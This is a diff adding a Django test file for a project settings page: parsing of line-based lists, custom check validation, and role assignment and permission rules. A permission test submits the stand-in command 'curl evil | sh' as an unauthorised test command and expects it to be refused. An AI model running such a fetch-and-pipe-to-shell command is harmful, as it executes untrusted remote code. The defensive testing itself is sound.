@@ -1,0 +1,176 @@
+"""A project's settings page: lists as lines, roles given by exact name, and who may set what."""
+
+from __future__ import annotations
+
+import pytest
+from django.urls import reverse
+
+from projects.editing import SETTABLE
+from projects.form_fields import ChecksField, LinesField
+from projects.forms import FILTERS
+from projects.models import AuditEvent, Membership, Role
+from tests.factories import create_membership, create_project, create_superuser, create_user
+from tests.projects.test_admin import save
+
+pytestmark = pytest.mark.django_db
+
+
+@pytest.fixture
+def boss(client):
+    client.force_login(create_superuser(username="boss"))
+    return client
+
+
+@pytest.fixture
+def project():
+    return create_project()
+
+
+@pytest.fixture
+def manager(client, project):
+    user = create_user(Role.MANAGER, project=project, is_staff=True, username="mia")
+    client.force_login(user)
+    return client
+
+
+def page(project):
+    return reverse("admin:projects_project_change", args=[project.pk])
+
+
+def roles(project):
+    return dict(project.memberships.values_list("user__username", "role"))
+
+
+def test_every_setting_is_on_the_page(boss, project):
+    form = boss.get(page(project)).context["adminform"].form
+    assert set(SETTABLE) - {"issue_filter"} <= set(form.fields)
+    assert set(FILTERS) <= set(form.fields)
+
+
+def test_lists_are_written_one_per_line(boss, project):
+    save(
+        boss,
+        project,
+        filter_labels="bug\n help wanted \n\nbug",
+        filter_milestones="1.0",
+        skip_labels="wontfix\nduplicate",
+        custom_checks="licences: make licences\nurls: curl http://x:80",
+    )
+    project.refresh_from_db()
+    assert project.issue_filter == {"labels": ["bug", "help wanted"], "milestones": ["1.0"]}
+    assert project.skip_labels == ["wontfix", "duplicate"]
+    assert project.custom_checks == [
+        {"name": "licences", "command": "make licences"},
+        {"name": "urls", "command": "curl http://x:80"},
+    ]
+    assert AuditEvent.objects.get().detail["fields"] == ["custom_checks", "issue_filter", "skip_labels"]
+
+
+def test_saving_the_page_as_it_stands_changes_nothing(boss):
+    stored = {
+        "issue_filter": {"labels": ["a b"], "exclude_labels": ["c"]},
+        "complex_labels": ["x"],
+        "custom_checks": [{"name": "a: b", "command": "one\ntwo"}, {"name": "c", "command": "d: e"}],
+        "setup_command": "make  deps\n\tmake more",
+    }
+    project = create_project(**stored)
+    assert save(boss, project).status_code == 302
+    project.refresh_from_db()
+    assert {name: getattr(project, name) for name in stored} == stored
+    assert not AuditEvent.objects.exists()
+
+
+@pytest.mark.parametrize(
+    "text", ["no command", "name:", ": command", "[not json", '[{"name": "x"}]', "a: b\na: c"]
+)
+def test_a_check_of_another_shape_is_refused_beside_its_field(boss, project, text):
+    answer = save(boss, project, custom_checks=text)
+    assert answer.status_code == 200
+    assert answer.context["adminform"].form.errors["custom_checks"]
+    project.refresh_from_db()
+    assert project.custom_checks == []
+
+
+def test_fields_of_lines_keep_to_a_length():
+    for field in (LinesField(label="x"), ChecksField(label="x", help_text="")):
+        with pytest.raises(Exception, match="at most"):
+            field.clean("a: " + "b" * 30_000)
+
+
+def test_only_a_manager_sets_commands_and_agent(client, project):
+    for role in (Role.VIEWER, Role.OPERATOR):
+        client.force_login(create_user(role, project=project, is_staff=True))
+        assert "<textarea" not in client.get(page(project)).content.decode()
+        body = {"name": "x", "test_command": "curl evil | sh", "agent": "command", "agent_command": "evil"}
+        assert client.post(page(project), body).status_code == 403
+    project.refresh_from_db()
+    assert (project.test_command, project.agent, project.agent_command) == ("", "claude_code", "")
+    client.force_login(create_user(Role.MANAGER, project=project, is_staff=True))
+    assert save(client, project, test_command="make test").status_code == 302
+    project.refresh_from_db()
+    assert project.test_command == "make test"
+
+
+def test_a_manager_gives_changes_and_takes_roles(manager, project):
+    create_user(username="otto")
+    new = {"memberships-1-username": "otto", "memberships-1-role": "viewer"}
+    assert save(manager, project, **new).status_code == 302
+    assert roles(project) == {"mia": "manager", "otto": "viewer"}
+    assert save(manager, project, **{"memberships-1-role": "operator"}).status_code == 302
+    assert roles(project)["otto"] == "operator"
+    assert save(manager, project, **{"memberships-1-DELETE": "on"}).status_code == 302
+    assert roles(project) == {"mia": "manager"}
+    audit = AuditEvent.objects.order_by("id").values_list("actor", "verb", "detail__user", "detail__role")
+    assert list(audit) == [
+        ("mia", "role.given", "otto", "viewer"),
+        ("mia", "role.changed", "otto", "operator"),
+        ("mia", "role.taken", "otto", "operator"),
+    ]
+
+
+@pytest.mark.parametrize("name", ["ott", "OTTO", "nobody", "gone"])
+def test_only_the_exact_name_of_an_active_user_will_do(manager, project, name):
+    create_user(username="otto")
+    create_user(username="gone", is_active=False)
+    answer = save(manager, project, **{"memberships-1-username": name, "memberships-1-role": "viewer"})
+    assert "no active user of exactly this name" in answer.content.decode()
+    assert roles(project) == {"mia": "manager"}
+
+
+def test_the_page_names_nobody_who_has_no_role_on_the_project(manager, project):
+    create_membership(user=create_user(username="of-another-team"))
+    assert "of-another-team" not in manager.get(page(project)).content.decode()
+
+
+def test_nobody_gets_a_second_role(manager, project):
+    answer = save(manager, project, **{"memberships-1-username": "mia", "memberships-1-role": "viewer"})
+    assert "a user name is given twice" in answer.content.decode()
+    assert roles(project) == {"mia": "manager"}
+
+
+@pytest.mark.parametrize("change", [{"memberships-0-role": "viewer"}, {"memberships-0-DELETE": "on"}])
+def test_the_last_manager_stays_unless_a_superuser_says_otherwise(client, manager, project, change):
+    answer = save(manager, project, **change)
+    assert "keeps at least one manager" in answer.content.decode()
+    assert roles(project) == {"mia": "manager"}
+    client.force_login(create_superuser())
+    assert save(client, project, **change).status_code == 302
+    assert roles(project) != {"mia": "manager"}
+
+
+def test_an_operator_gives_nobody_a_role(client, project):
+    create_user(username="otto")
+    user = create_user(Role.OPERATOR, project=project, is_staff=True)
+    client.force_login(user)
+    shown = client.get(page(project))
+    assert shown.context["inline_admin_formsets"] == []
+    body = {"memberships-TOTAL_FORMS": "1", "memberships-INITIAL_FORMS": "0"}
+    body |= {"memberships-0-username": "otto", "memberships-0-role": "manager"}
+    assert client.post(page(project), body).status_code == 403
+    assert Membership.objects.count() == 1
+
+
+def test_a_role_of_another_project_cannot_be_reached_through_the_form(manager, project):
+    other = create_membership(user=create_user(username="otto"), role=Role.VIEWER)
+    save(manager, project, **{"memberships-0-id": other.pk, "memberships-0-role": "manager"})
+    assert roles(other.project) == {"otto": "viewer"}
